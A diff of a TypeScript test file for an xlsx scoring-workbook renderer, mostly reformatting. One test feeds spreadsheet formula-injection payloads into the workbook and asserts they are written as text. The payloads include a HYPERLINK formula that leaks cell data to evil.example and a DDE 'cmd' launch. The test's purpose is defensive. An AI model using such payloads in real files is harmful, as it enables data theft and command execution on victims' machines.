@@ -53,10 +53,15 @@ describe('xlsx workbook (评分表) in LibreOffice', function () {
   this.timeout(600_000);
   let bin: string;
   let dir: string;
-  before(function () { bin = requireSoffice(this); dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ep-xlsx-')); });
-  after(() => { if (dir) fs.rmSync(dir, { recursive: true, force: true }); });
+  before(function () {
+    bin = requireSoffice(this);
+    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ep-xlsx-'));
+  });
+  after(() => {
+    if (dir) fs.rmSync(dir, { recursive: true, force: true });
+  });
 
-  it('recalculates to the engine\'s score and rating on both sides of every band boundary', async () => {
+  it("recalculates to the engine's score and rating on both sides of every band boundary", async () => {
     const files: string[] = [];
     const expected: { file: string; score: string; band: string; lang: Lang }[] = [];
     for (const [i, c] of CASES.entries()) {
@@ -94,7 +99,7 @@ describe('xlsx workbook (评分表) in LibreOffice', function () {
     assert.equal(valueOf(rows, 'Recommended rating'), 'Qualified');
   });
 
-  it('writes the demo pack\'s sheet: every leaf, subtotals, exclusions, deductions, the provisional notice', async () => {
+  it("writes the demo pack's sheet: every leaf, subtotals, exclusions, deductions, the provisional notice", async () => {
     for (const lang of ['zh-CN', 'en'] as Lang[]) {
       const [result] = await checkDisk(DEMO, lang);
       const file = path.join(dir, `demo-${lang}.xlsx`);
@@ -104,12 +109,31 @@ describe('xlsx workbook (评分表) in LibreOffice', function () {
       assert.equal(valueOf(rows, zh ? '评分' : 'Score'), result.score!.score.toFixed(1));
       assert.equal(valueOf(rows, zh ? '推荐等级' : 'Recommended rating'), result.score!.rating.label);
       const header = rows.find((r) => r[0] === (zh ? '序号' : 'No.'))!;
-      assert.deepEqual(header.slice(0, 12), zh
-        ? ['序号', '一级指标', '二级指标', '条款号', '评价内容', '标准分', '评价方法', '抽样数', '不符合数', '证据', '实得分', '扣分说明']
-        : ['No.', 'First-level indicator', 'Second-level indicator', 'Clause', 'What is assessed', 'Points', 'Method (evidence required)', 'Samples', 'Non-conforming', 'Evidence', 'Earned', 'Reason for deduction']);
+      assert.deepEqual(
+        header.slice(0, 12),
+        zh
+          ? ['序号', '一级指标', '二级指标', '条款号', '评价内容', '标准分', '评价方法', '抽样数', '不符合数', '证据', '实得分', '扣分说明']
+          : [
+              'No.',
+              'First-level indicator',
+              'Second-level indicator',
+              'Clause',
+              'What is assessed',
+              'Points',
+              'Method (evidence required)',
+              'Samples',
+              'Non-conforming',
+              'Evidence',
+              'Earned',
+              'Reason for deduction',
+            ],
+      );
       // One row per leaf, in the standard's order.
       const leafRows = rows.filter((r) => /^\d+$/.test(r[0]));
-      assert.deepEqual(leafRows.map((r) => r[3]), result.standard!.leaves.map((l) => l.id));
+      assert.deepEqual(
+        leafRows.map((r) => r[3]),
+        result.standard!.leaves.map((l) => l.id),
+      );
       for (const section of result.score!.sections) {
         const sub = rows.find((r) => r[0].startsWith(`${section.id} `) && r[0].endsWith(zh ? '小计' : 'subtotal'))!;
         assert.equal(Number(sub[5]), section.applicable, `${section.id} applicable`);
@@ -125,10 +149,11 @@ describe('xlsx workbook (评分表) in LibreOffice', function () {
   });
 
   it('writes hostile titles, notes and names as text, never as formulas', async () => {
-    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(1,2)', '-1+1', '=1+1'];
+    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1,2)', '-1+1', '=1+1'];
     const fs2 = memFs({
-      '/ws/p/evidence-pack.yaml': `pack: 1\nstandard: ./std.yaml\norganization: {name: ${JSON.stringify(hostile[4])}}\nassessment: {date: 2026-10-15}\n`
-        + `special_deductions:\n  - {id: SD-1, reason: ${JSON.stringify(hostile[3])}, rectified: false}\n`,
+      '/ws/p/evidence-pack.yaml':
+        `pack: 1\nstandard: ./std.yaml\norganization: {name: ${JSON.stringify(hostile[4])}}\nassessment: {date: 2026-10-15}\n` +
+        `special_deductions:\n  - {id: SD-1, reason: ${JSON.stringify(hostile[3])}, rectified: false}\n`,
       '/ws/p/std.yaml': EDGE_STANDARD,
       '/ws/p/a.pdf': '%PDF',
       '/ws/p/e.evidence.yaml': `clauses:
@@ -139,7 +164,8 @@ describe('xlsx workbook (评分表) in LibreOffice', function () {
     });
     const result = await engineFor(fs2, { lang: 'en' }).checkPack('/ws/p');
     const xlsx = await renderWorkbook([result], { ...OPTS, lang: 'en' });
-    const formulas = Object.entries(unzipSync(xlsx)).filter(([n]) => n.startsWith('xl/worksheets/'))
+    const formulas = Object.entries(unzipSync(xlsx))
+      .filter(([n]) => n.startsWith('xl/worksheets/'))
       .flatMap(([, x]) => strFromU8(x).match(/<f>[\s\S]*?<\/f>/g) ?? []);
     assert.ok(formulas.length > 5);
     for (const f of formulas) assert.doesNotMatch(f, /HYPERLINK|cmd|1\+1|SUM\(1/, f);
@@ -171,7 +197,7 @@ describe('xlsx workbook (without LibreOffice)', () => {
     assert.ok(Buffer.from(a).equals(Buffer.from(b)));
   });
 
-  it('says in the user\'s language when the output folder is missing or cannot be written', async () => {
+  it("says in the user's language when the output folder is missing or cannot be written", async () => {
     const missing = path.join(os.tmpdir(), 'ep-no-such-folder', 'x', 'report.xlsx');
     let run = await runCli(['report', 'examples/demo-pack', '--out', missing, '--lang', 'en']);
     assert.equal(run.code, 2);
